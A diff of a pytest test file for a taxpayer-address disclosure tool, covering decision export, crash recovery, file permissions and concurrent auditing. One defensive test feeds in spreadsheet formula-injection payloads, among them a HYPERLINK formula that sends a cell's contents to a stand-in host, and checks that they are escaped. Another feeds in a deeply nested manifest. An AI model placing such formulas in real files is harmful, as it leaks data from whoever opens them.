@@ -3,8 +3,11 @@
 from __future__ import annotations
 
 import csv
+import errno
 import json
 import shutil
+import subprocess
+import sys
 from dataclasses import dataclass
 from pathlib import Path
 
@@ -12,8 +15,10 @@ import duckdb
 import pyarrow.parquet as pq
 import pytest
 
+from taxgate import pipeline
 from taxgate.cli.main import run_cli
 from taxgate.disclosure.response import RESPONSE_COLUMNS
+from taxgate.errors import IntakeRefused, OutputsNotWritten
 from taxgate.synth import score_files
 
 TAXPAYERS = 3_000
@@ -34,12 +39,38 @@ class Run:
         with (self.out / "response.csv").open(encoding="utf-8", newline="") as handle:
             return list(csv.DictReader(handle))
 
+    @property
+    def batch_id(self) -> str:
+        manifest = json.loads((self.world / "manifest.json").read_text(encoding="utf-8"))
+        return str(manifest["batch_id"])
+
+    @property
+    def run_args(self) -> tuple[str, ...]:
+        return (str(self.ws), str(self.world / "manifest.json"), "--out", str(self.out))
+
+    def decisions(self, into: Path) -> list[dict[str, object]]:
+        """The internal decisions table, exported as the agency would (data contract §4)."""
+        path = into / "decisions.parquet"
+        assert cli("decisions", str(self.ws), self.batch_id, "--out", str(path)) == 0
+        return list(pq.read_table(path).to_pylist())
+
 
 def cli(*argv: str) -> int:
     return run_cli(list(argv))
 
 
-def build(root: Path, *, style: str = "split") -> Run:
+def decisions_of(ws: Path, manifest: Path, into: Path) -> dict[str, dict[str, object]]:
+    """The decisions of the batch ``manifest`` names, by request id."""
+    batch_id = json.loads(manifest.read_text(encoding="utf-8"))["batch_id"]
+    path = into / f"decisions-{batch_id}.parquet"
+    assert cli("decisions", str(ws), batch_id, "--out", str(path)) == 0
+    return {str(d["request_id"]): d for d in pq.read_table(path).to_pylist()}
+
+
+def prepare(
+    root: Path, *, style: str = "split", taxpayers: int = TAXPAYERS, requests: int = REQUESTS
+) -> Run:
+    """A workspace with a signer and a master file loaded, and a signed batch not yet run."""
     ws, keys, world, out = root / "ws", root / "keys", root / "world", root / "out"
     assert cli("init", str(ws)) == 0
     assert cli("keys", "new", str(keys), "--name", "ice-director") == 0
@@ -52,15 +83,20 @@ def build(root: Path, *, style: str = "split") -> Run:
     )
     assert (
         cli(
-            *("synth", str(world), "--taxpayers", str(TAXPAYERS), "--requests", str(REQUESTS)),
+            *("synth", str(world), "--taxpayers", str(taxpayers), "--requests", str(requests)),
             *("--seed", str(SEED), "--address-style", style),
             *("--sign-key", str(keys / "ice-director.key.pem"), "--signer", "ice-director"),
         )
         == 0
     )
     assert cli("master", "load", str(ws), str(world / "master"), "--workers", "1") == 0
-    assert cli("run", str(ws), str(world / "manifest.json"), "--out", str(out)) == 0
     return Run(root, ws, world, out)
+
+
+def build(root: Path, *, style: str = "split") -> Run:
+    prepared = prepare(root, style=style)
+    assert cli("run", *prepared.run_args) == 0
+    return prepared
 
 
 @pytest.fixture(scope="module")
@@ -98,25 +134,28 @@ def test_no_harmful_disclosure_and_high_recall(run: Run) -> None:
     assert result["recall"] >= RECALL_FLOOR
 
 
-def test_decisions_keep_the_evidence(run: Run) -> None:
-    decisions = pq.read_table(run.out / "decisions.parquet").to_pylist()
+def test_the_response_folder_holds_the_response_alone(run: Run) -> None:
+    # The requester gets this folder; every candidate's TIN stays in the workspace.
+    assert sorted(p.name for p in run.out.iterdir()) == ["response.csv"]
+
+
+def test_decisions_keep_the_evidence(run: Run, tmp_path: Path) -> None:
+    decisions = run.decisions(tmp_path)
     assert len(decisions) == REQUESTS
     disclosed = [d for d in decisions if d["decision"] == "DISCLOSE"]
     assert disclosed
     for d in disclosed:
-        assert d["model_version"].startswith("fs-") and d["policy_version"]
+        assert str(d["model_version"]).startswith("fs-") and d["policy_version"]
         assert d["match_weight"] is not None and d["levels"] and d["lka_as_of"]
-        assert json.loads(d["candidates"])
+        assert json.loads(str(d["candidates"]))
 
 
 def test_the_decisions_table_is_exported_for_the_agency_alone(run: Run, tmp_path: Path) -> None:
     # Data contract §4: taxgate decisions WS BATCH_ID --out FILE.parquet.
-    batch_id = json.loads((run.world / "manifest.json").read_text(encoding="utf-8"))["batch_id"]
     out = tmp_path / "decisions.parquet"
-    assert cli("decisions", str(run.ws), batch_id, "--out", str(out)) == 0
+    assert cli("decisions", str(run.ws), run.batch_id, "--out", str(out)) == 0
     exported = pq.read_table(out).to_pylist()
-    written = pq.read_table(run.out / "decisions.parquet").to_pylist()
-    assert [d["request_id"] for d in exported] == [d["request_id"] for d in written]
+    assert [d["request_id"] for d in exported] == [r["request_id"] for r in run.response]
     assert out.stat().st_mode & 0o077 == 0  # every candidate's TIN: the owner reads it alone
     assert cli("decisions", str(run.ws), "no-such-batch", "--out", str(out)) != 0
 
@@ -159,8 +198,11 @@ def test_same_inputs_give_byte_identical_outputs(run: Run, tmp_path: Path) -> No
     assert (
         cli("run", str(twin / "ws"), str(twin / "world" / "manifest.json"), "--out", str(out)) == 0
     )
-    for name in ("response.csv", "decisions.parquet"):
-        assert (out / name).read_bytes() == (run.out / name).read_bytes(), name
+    assert (out / "response.csv").read_bytes() == (run.out / "response.csv").read_bytes()
+    exported = [twin / "decisions.parquet", tmp_path / "decisions.parquet"]
+    for ws, path in zip((twin / "ws", run.ws), exported, strict=True):
+        assert cli("decisions", str(ws), run.batch_id, "--out", str(path)) == 0
+    assert exported[0].read_bytes() == exported[1].read_bytes()
 
 
 def test_legal_hold_stops_every_disclosure(run: Run, tmp_path: Path) -> None:
@@ -262,7 +304,7 @@ def test_a_later_request_for_an_answered_taxpayer_is_a_duplicate(run: Run, tmp_p
     assert cli("run", str(copy / "ws"), str(manifest), "--out", str(out)) == 0
     with (out / "response.csv").open(encoding="utf-8", newline="") as handle:
         response = {r["request_id"]: r for r in csv.DictReader(handle)}
-    decisions = {d["request_id"]: d for d in pq.read_table(out / "decisions.parquet").to_pylist()}
+    decisions = decisions_of(copy / "ws", manifest, copy)
     for original in originals:
         assert response[original["request_id"]]["outcome"] == "DISCLOSED"
     refused = [r["request_id"] for r in again if response[r["request_id"]]["outcome"] == "REJECTED"]
@@ -277,3 +319,183 @@ def test_a_later_request_for_an_answered_taxpayer_is_a_duplicate(run: Run, tmp_p
     assert all(response[r["request_id"]]["outcome"] != "DISCLOSED" for r in again)
     # The son is not refused as his father's duplicate, and is not given his father's address.
     assert response["SON-JR"]["outcome"] == "NOT_DISCLOSED"
+
+
+SMALL_REQUESTS = 30
+
+
+@pytest.fixture
+def small(tmp_path: Path) -> Run:
+    return prepare(tmp_path, taxpayers=300, requests=SMALL_REQUESTS)
+
+
+def one_line(text: str) -> str:
+    return " ".join(text.split())
+
+
+def test_a_fault_after_the_commit_is_reported_and_recoverable(
+    small: Run, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    def full_disk(staged: Path, final: Path) -> None:
+        raise OSError(errno.ENOSPC, "No space left on device", str(final))
+
+    monkeypatch.setattr(pipeline, "publish", full_disk)
+    assert cli("run", *small.run_args) == OutputsNotWritten.exit_code
+    err = one_line(capsys.readouterr().err)
+    assert f"batch {small.batch_id} is committed" in err and "No space left on device" in err
+    assert f"taxgate response {small.ws} {small.batch_id} --out {small.out}" in err
+    assert "Traceback" not in err
+    assert list(small.out.iterdir()) == []  # no response, and no staged file left behind
+    monkeypatch.undo()
+    # Committed: a second run is a replay; the response comes from the store, whole.
+    assert cli("run", *small.run_args) == IntakeRefused.exit_code
+    assert cli("response", str(small.ws), small.batch_id, "--out", str(small.out)) == 0
+    assert [r["request_id"] for r in small.response] == [
+        str(d["request_id"]) for d in small.decisions(small.root)
+    ]
+    assert len(small.response) == SMALL_REQUESTS
+    assert cli("ledger", "verify", str(small.ws)) == 0
+
+
+def test_ctrl_c_after_the_commit_says_the_batch_is_committed(
+    small: Run, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    def interrupt(staged: Path, final: Path) -> None:
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr(pipeline, "publish", interrupt)
+    assert cli("run", *small.run_args) == OutputsNotWritten.exit_code
+    err = one_line(capsys.readouterr().err)
+    assert "is committed" in err and "(interrupted)" in err
+    assert "nothing was committed" not in err and "rolled back" not in err
+    monkeypatch.undo()
+    assert cli("response", str(small.ws), small.batch_id, "--out", str(small.out)) == 0
+    assert len(small.response) == SMALL_REQUESTS
+
+
+def test_ctrl_c_before_the_commit_commits_nothing(
+    small: Run, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    def interrupt(*args: object, **kwargs: object) -> None:
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr(pipeline, "last_known_addresses", interrupt)
+    assert cli("run", *small.run_args) == 130
+    assert "rolled back" in one_line(capsys.readouterr().err)
+    assert cli("batch", "list", str(small.ws)) == 0
+    assert "none answered yet" in capsys.readouterr().out
+    monkeypatch.undo()
+    assert cli("run", *small.run_args) == 0  # nothing was recorded: the batch simply runs
+    assert len(small.response) == SMALL_REQUESTS
+
+
+@pytest.mark.usefixtures("umask_022")
+def test_nothing_in_the_workspace_or_the_response_folder_is_readable_by_others(
+    small: Run,
+) -> None:
+    small.out.mkdir()
+    dead = 4_194_305  # above Linux's largest pid: no process can hold it
+    leftovers = [
+        small.out / f".response.csv.{dead}.0badf00d.partial",
+        small.out / ".decisions.parquet.partial",  # the name taxgate once staged it under
+    ]
+    for path in leftovers:
+        path.write_bytes(b"half a file")
+    assert cli("run", *small.run_args) == 0
+    assert sorted(p.name for p in small.out.iterdir()) == ["response.csv"]
+    for root in (small.ws, small.out):
+        for path in [root, *root.rglob("*")]:
+            mode = path.stat().st_mode
+            assert mode & 0o077 == 0 or path == small.out, f"{path} is {oct(mode)}"
+
+
+# Request ids a requester could send to make its own spreadsheet run a formula (OWASP).
+INJECTIONS = ('=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(1+1)")
+
+
+def test_requester_text_cannot_run_as_a_formula(small: Run, tmp_path: Path) -> None:
+    requests = small.world / "requests.csv"
+    with requests.open(encoding="utf-8", newline="") as handle:
+        reader = csv.DictReader(handle)
+        names, rows = list(reader.fieldnames or []), list(reader)
+    for row, evil in zip(rows, INJECTIONS, strict=False):
+        row["request_id"] = evil
+    with requests.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.DictWriter(handle, fieldnames=names, lineterminator="\n")
+        writer.writeheader()
+        writer.writerows(rows)
+    manifest = small.world / "manifest.json"
+    keys = small.root / "keys" / "ice-director.key.pem"
+    assert (
+        cli(
+            *("batch", "sign", str(requests), "--key", str(keys), "--signer", "ice-director"),
+            *("--out", str(manifest), "--request-date", "2025-07-15"),
+        )
+        == 0
+    )
+    screened = tmp_path / "screened"
+    assert cli("screen", str(small.ws), str(manifest), "--out", str(screened)) == 0
+    assert cli("run", *small.run_args) == 0
+    for path in (small.out / "response.csv", screened / "findings.csv"):
+        with path.open(encoding="utf-8", newline="") as handle:
+            cells = list(csv.reader(handle))
+        assert [row[0] for row in cells[1 : 1 + len(INJECTIONS)]] == [f"'{e}" for e in INJECTIONS]
+        assert not [c for row in cells for c in row if c.startswith(("=", "+", "-", "@"))], path
+    scored = score_files(small.out / "response.csv", small.world / "truth.parquet")
+    assert scored["harmful_total"] == 0
+
+
+AUDITOR = """
+import sys, time
+from taxgate.cli.main import run_cli
+ws, seconds = sys.argv[1], float(sys.argv[2])
+codes = []
+print("auditing", flush=True)
+end = time.monotonic() + seconds
+while time.monotonic() < end:
+    for argv in (["ledger", "verify", ws], ["accounting", ws], ["batch", "list", ws]):
+        codes.append(run_cli(argv))
+print("codes", str(sorted(set(codes))).replace(" ", ""), len(codes), flush=True)
+"""
+
+
+def test_an_auditor_reading_the_workspace_never_makes_a_run_fail(small: Run) -> None:
+    # A first batch, so that the auditor's commands have a ledger to read.
+    assert cli("run", *small.run_args) == 0
+    requests, keys = small.world / "requests.csv", small.root / "keys" / "ice-director.key.pem"
+    second = small.world / "second.json"
+    assert (
+        cli(
+            *("batch", "sign", str(requests), "--key", str(keys), "--signer", "ice-director"),
+            *("--out", str(second), "--request-date", "2025-07-15"),
+        )
+        == 0
+    )
+    with subprocess.Popen(
+        [sys.executable, "-c", AUDITOR, str(small.ws), "6"],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.DEVNULL,
+        text=True,
+    ) as auditor:
+        assert auditor.stdout is not None
+        assert auditor.stdout.readline().strip() == "auditing"
+        assert cli("run", str(small.ws), str(second), "--out", str(small.root / "out2")) == 0
+        lines = auditor.stdout.read().splitlines()
+        assert auditor.wait(timeout=600) == 0
+    summary = next(line for line in lines if line.startswith("codes")).split()
+    assert summary[1] == "[0]", summary  # every read of the auditor succeeded
+    assert int(summary[2]) > 3
+    assert cli("ledger", "verify", str(small.ws)) == 0
+
+
+def test_a_deeply_nested_manifest_is_refused_and_recorded_without_a_traceback(
+    small: Run, capsys: pytest.CaptureFixture[str]
+) -> None:
+    manifest = small.world / "deep.json"
+    manifest.write_bytes(b"[" * 400_000)
+    manifest.with_name("deep.json.sig").write_bytes(b"0")
+    code = cli("run", str(small.ws), str(manifest), "--out", str(small.out))
+    err = one_line(capsys.readouterr().err)
+    assert code == IntakeRefused.exit_code, err
+    assert "levels deep" in err and "Traceback" not in err
+    assert cli("ledger", "verify", str(small.ws)) == 0  # the refusal is accounted for
